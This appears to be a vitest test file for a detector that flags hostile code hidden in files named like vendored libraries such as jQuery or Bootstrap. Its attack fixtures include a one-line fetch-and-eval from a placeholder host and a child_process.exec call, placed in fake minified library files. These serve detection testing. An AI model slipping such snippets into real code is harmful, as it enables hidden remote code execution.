import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './conceal-minified-unknown.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

test.each<[string, Files, string[]]>([
  [
    'runs what it fetched',
    {
      'public/js/jquery.min.js':
        "!function(){fetch('https://a.invalid').then((r)=>r.text()).then((t)=>eval(t))}()",
    },
    ['decisive 12 public/js/jquery.min.js:1:70'],
  ],
  [
    'starts programs',
    { 'static/bootstrap-5.3.0.min.js': "var c=require('child_process');c.exec('x')" },
    ['decisive 12 static/bootstrap-5.3.0.min.js:1:32'],
  ],
  [
    'under an unmistakable name',
    { 'lib/jquery.js': "const fs = require('node:fs')" },
    ['strong 6 lib/jquery.js:1:12'],
  ],
  [
    'among the files of the page',
    { 'public/lib/bootstrap.js': "const fs = require('node:fs')" },
    ['strong 6 public/lib/bootstrap.js:1:12'],
  ],
  [
    'by its banner',
    { 'src/util.js': "/*! jQuery v3.7.1 | (c) */\nvar o=require('os')" },
    ['strong 6 src/util.js:2:7'],
  ],
  [
    'a plugin',
    { 'plugins/plugin.min.js': "fetch('https://a.invalid').then((r)=>r.text()).then((t)=>eval(t))" },
    ['strong 6 plugins/plugin.min.js:1:58'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  [
    'a library',
    {
      'public/js/jquery.min.js':
        '/*! jQuery v3.7.1 */!function(e,t){"object"==typeof module&&(module.exports=t(e))}(window,function(e){return e})',
    },
    [],
  ],
  ['the start of a program', { 'lib/bootstrap.js': "const fs = require('node:fs')" }, []],
  ['a binding', { 'dist/react.js': 'const a = process.env.API' }, []],
  ['a component of that name', { 'src/components/chart.js': 'const a = process.env.API' }, []],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
